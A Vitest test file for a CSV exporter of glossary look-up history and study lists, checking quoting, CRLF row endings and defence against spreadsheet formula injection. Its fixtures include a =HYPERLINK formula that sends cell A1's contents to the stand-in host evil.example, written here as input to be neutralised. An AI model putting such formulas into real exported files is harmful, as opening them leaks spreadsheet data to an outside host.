import { describe, expect, it } from 'vitest';
import { parseCsv } from '../user-glossary/csv';
import { csvCell, exportCsv, toCsv } from './csv';
import { csvItems, formatDate } from './export';
import { entryOf, lookupOf } from './test-items';

describe('csvCell', () => {
  it('exports a sentence starting with =HYPERLINK( as text, with a leading quote', () => {
    const cell = csvCell('=HYPERLINK("https://evil.example/?"&A1, "Click")');
    expect(cell).toBe('"\'=HYPERLINK(""https://evil.example/?""&A1, ""Click"")"');
  });

  it('neutralises every character a spreadsheet starts a formula with', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(csvCell(`${start}1+1`).startsWith(`'`) || csvCell(`${start}1+1`).startsWith(`"'`)).toBe(true);
  });

  it('leaves ordinary text alone and quotes commas, quotes and line breaks', () => {
    expect(csvCell('Gas is paid in ETH')).toBe('Gas is paid in ETH');
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('1 = 1')).toBe('1 = 1');
  });
});

describe('exportCsv', () => {
  const t = new Date(2026, 11, 7, 9, 5).getTime();
  const entries = [
    lookupOf('gas', t, { sentence: '=HYPERLINK("https://evil.example","x") pays gas.' }),
    lookupOf('mev', t + 60_000, { sentence: '-5% after MEV, said @trader, "really".', url: 'https://a.example/?q=1,2' }),
    lookupOf('gas', t + 120_000, { sentence: '+1 for gas.' }),
  ];
  const entry = (id: string) => entryOf(id, { short: id === 'gas' ? '@fee, paid "per unit"' : 'Value, taken by ordering.' });

  it('writes the history one row per look-up, oldest first, and reads back as the same cells', () => {
    const csv = exportCsv(csvItems({ scope: 'history', entries, study: { terms: [], dismissed: [] }, entry }));
    expect(csv.startsWith('\uFEFFterm,definition,sentence,url,date\r\n')).toBe(true);
    const { records, problems } = parseCsv(csv);
    expect(problems).toEqual([]);
    expect(records).toEqual([
      ['term', 'definition', 'sentence', 'url', 'date'],
      ['Gas', "'@fee, paid \"per unit\"", '\'=HYPERLINK("https://evil.example","x") pays gas.', 'https://docs.example.org/gas', formatDate(t)],
      ['Mev', 'Value, taken by ordering.', '\'-5% after MEV, said @trader, "really".', 'https://a.example/?q=1,2', formatDate(t + 60_000)],
      ['Gas', "'@fee, paid \"per unit\"", "'+1 for gas.", 'https://docs.example.org/gas', formatDate(t + 120_000)],
    ]);
    expect(formatDate(t)).toBe('2026-12-07 09:05');
  });

  it('writes the study list one row per starred term with its newest sentence, or none', () => {
    const study = { terms: [{ id: 'gas', at: t - 1000 }, { id: 'gamma', at: t - 500 }, { id: 'gone', at: t }], dismissed: [] };
    const known = (id: string) => (id === 'gone' ? undefined : entry(id));
    const { records } = parseCsv(exportCsv(csvItems({ scope: 'study', entries, study, entry: known })));
    expect(records.slice(1).map((r) => [r[0], r[2], r[4]])).toEqual([
      ['Gas', "'+1 for gas.", formatDate(t + 120_000)],
      ['Gamma', '', formatDate(t - 500)],
    ]);
  });

  it('ends every row with CRLF', () => {
    expect(toCsv([['a'], ['b']])).toBe('\uFEFFa\r\nb\r\n');
  });
});
